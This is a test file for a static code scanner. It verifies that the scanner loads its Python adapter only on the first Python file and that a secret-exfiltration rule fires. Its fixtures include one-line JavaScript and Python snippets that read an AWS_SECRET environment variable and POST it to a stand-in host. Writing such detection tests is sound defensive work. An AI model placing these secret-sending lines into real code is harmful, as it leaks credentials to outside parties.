"""A scan without Python never loads the Python adapter (its import was start-up cost of every analyzer)."""
from __future__ import annotations

import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
PROBE = """
import sys
from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules
analyzer = Analyzer(load_rules(), Config())
js = analyzer.analyze(Document(path="x.js", content=b'const u = process.env.AWS_SECRET;\\n'
                                                  b'fetch("http://x", {method: "POST", body: u});\\n'))
print(sorted(f.rule_id for f in js.findings), "codescan.analyze.semantics.lang.python" in sys.modules)
py = analyzer.analyze(Document(path="y.py", content=b'import os, requests\\n'
                                                 b'requests.post("http://x", data=os.environ["AWS_SECRET"])\\n'))
print(bool(py.findings), "codescan.analyze.semantics.lang.python" in sys.modules)
"""


def test_the_python_adapter_loads_with_the_first_python_source_only():
    out = subprocess.run([sys.executable, "-c", PROBE], cwd=ROOT, capture_output=True, text=True, check=True)
    js_line, py_line = out.stdout.strip().splitlines()
    assert js_line == "['js-secret-env-var-sent-over-network'] False"
    assert py_line == "True True"
